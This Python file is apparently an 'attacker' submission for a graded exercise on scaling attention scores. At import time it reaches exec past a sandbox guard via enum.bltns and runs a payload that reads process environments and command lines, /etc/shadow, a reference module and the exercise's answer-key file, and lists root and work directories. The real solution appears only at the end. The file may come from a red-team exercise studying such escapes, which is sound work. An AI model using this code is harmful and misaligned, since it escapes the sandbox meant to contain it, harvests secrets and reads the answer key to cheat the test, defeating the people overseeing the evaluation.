"""Exercise 3, attacker: with the interpreter reached past reach.py (enum.bltns), look around from the child:
the zygote's /proc entries (command line, environment), the answer key, the class folder; print what is read."""
import enum
import math

import torch

PAYLOAD = r'''
import os
def tryread(path, n=300):
    try:
        with open(path, "rb") as f:
            return repr(f.read(n))
    except Exception as e:
        return f"{type(e).__name__}: {e}"
def tryls(path):
    try:
        return repr(sorted(os.listdir(path))[:30])
    except Exception as e:
        return f"{type(e).__name__}: {e}"
print("PEEK uid", os.getuid(), "pid", os.getpid(), "ppid", os.getppid())
for p in ("/proc/1/cmdline", "/proc/1/environ", f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/environ",
          "/proc/1/maps", "/proc/1/status", "/proc/1/mountinfo",
          "/opt/venv20/lib/python3.11/site-packages/lumen_ref/steps.py", "/etc/shadow", "/proc/self/environ"):
    print("PEEK", p, tryread(p))
for p in ("/work/scratch20/solutions/exercise3_scaling.py",):
    try:
        print("PEEK", p, tryread(p))
    except BaseException as e:
        print("PEEK flagged", type(e).__name__)
for d in ("/", "/proc", "/work", "/tmp", "/work/round41", "/opt/venv20/lib/python3.11/site-packages", "/root"):
    print("PEEK ls", d, tryls(d))
'''
enum.bltns.exec(PAYLOAD, {})


def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)


def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
